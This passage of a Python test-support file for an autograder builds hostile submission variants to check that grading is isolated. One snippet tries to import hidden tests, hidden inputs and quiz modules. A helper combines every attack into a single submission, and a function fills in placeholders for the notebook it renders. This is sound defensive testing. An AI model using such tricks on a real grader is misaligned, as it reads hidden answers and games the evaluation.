for name in ("a01_regression.test_hidden", "a01_regression.test_public", "a01_regression.conftest",
             "a01_regression.hidden_inputs", "a04_mnist_mlops.quiz", "a00_fundamentals.test_hidden"):
    try:
        importlib.import_module(name)
        gained.append(name)
    except Exception:
        pass
''')),
]
VARIANTS += ISOLATION_VARIANTS


PORT_TOKEN = "31337357"  # @PORT@ while the code is parsed


def _all_attacks(variants: list[Variant]) -> Variant:
    """One submission trying every isolation attack in turn (each in a function of its own), for the grading paths
    too slow to take each attack alone: ``pytest --notebook``, ``nbgrader autograde``, Gradescope's layout."""
    functions = []
    for variant in variants:
        (definition,) = ast.parse(variant.replace["split_data"].replace("@PORT@", PORT_TOKEN)).body
        assert isinstance(definition, ast.FunctionDef)
        definition.name = f"attack_{variant.name}"
        definition.args = ast.arguments(posonlyargs=[], args=[], kwonlyargs=[], kw_defaults=[], defaults=[])
        definition.body = definition.body[:-1]  # the correct split's return
        functions.append(ast.unparse(definition).replace(PORT_TOKEN, "@PORT@"))
    calls = "\n".join(f"attack_{variant.name}()" for variant in variants)
    return Variant("all_isolation_attacks", "Every isolation attack above, one after the other.", frozenset(),
                   _split_doing("\n\n".join(functions) + "\n" + calls))


#: Without stopping its own zygote: it hurts only its own grading (the restarts that the daemons' leftovers call
#: for then find no zygote), graded alone above.
ALL_ISOLATION_ATTACKS = _all_attacks([v for v in ISOLATION_VARIANTS if v.name != "stop_the_zygote"])


def render_hostile(variant: Variant, folder: Path, port: int) -> str:
    """The notebook of ``variant`` with its placeholders filled: the batch's ``folder`` (its results file inside),
    the graders' folder and a loopback ``port`` the test listens on."""
    from autograder.paths import GRADERS_DIR
    from tests.submissions.variants import render

    return (render(ASSIGNMENT, variant).replace("@RESULTS@", str(folder / "results" / "results.json"))
            .replace("@GRADERS@", str(GRADERS_DIR)).replace("@PORT@", str(port)).replace("@FOLDER@", str(folder)))
